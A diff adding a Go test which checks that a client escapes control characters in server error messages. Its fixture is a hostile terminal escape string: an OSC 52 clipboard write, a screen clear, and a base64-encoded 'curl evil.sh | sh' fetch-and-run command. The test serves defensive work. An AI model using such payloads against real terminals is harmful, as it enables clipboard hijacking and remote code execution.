@@ -145,6 +145,40 @@ func TestClient_AnswerBound(t *testing.T) {
 	}
 }
 
+// Error() carried the answer's text as it came, control characters and
+// all, so the CLI printed an attacker's OSC 52 (a clipboard write) or a
+// screen clear. They are escaped; Message keeps the text as answered.
+func TestClient_ErrorTextEscaped(t *testing.T) {
+	t.Parallel()
+	const hostile = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x1b[1Aok\r\u009b"
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/v1/notifications/1" {
+			w.WriteHeader(404)
+			_ = json.NewEncoder(w).Encode(client.ErrorBody{Error: client.ErrorDetail{Code: client.CodeNotFound, Message: "notification " + hostile}})
+			return
+		}
+		w.WriteHeader(502)
+		_, _ = io.WriteString(w, "bad gateway "+hostile+"\x9b")
+	}))
+	defer srv.Close()
+	c, err := client.New(srv.URL, "t")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err1 := c.Channels(t.Context())
+	_, err2 := c.Notification(t.Context(), 1)
+	for _, err := range []error{err1, err2} {
+		var e *client.Error
+		if !errors.As(err, &e) || !strings.Contains(e.Message, hostile) {
+			t.Fatalf("%#v: want an *Error keeping the message", err)
+		}
+		// "\x9b" alone: a byte of invalid UTF-8, CSI to an 8-bit terminal.
+		if strings.ContainsAny(err.Error(), "\x1b\x07\r\u009b") || strings.Contains(err.Error(), "\x9b") || !strings.Contains(err.Error(), `\x1b]52;c;`) {
+			t.Errorf("Error() = %q, want the control characters escaped", err.Error())
+		}
+	}
+}
+
 // A 2xx whose body was not the call's answer was a success: Enqueue
 // returned id 0 and no error for an error body, {}, null, and kept id 5 of
 // an answer followed by garbage; `notifyd send` printed 0.
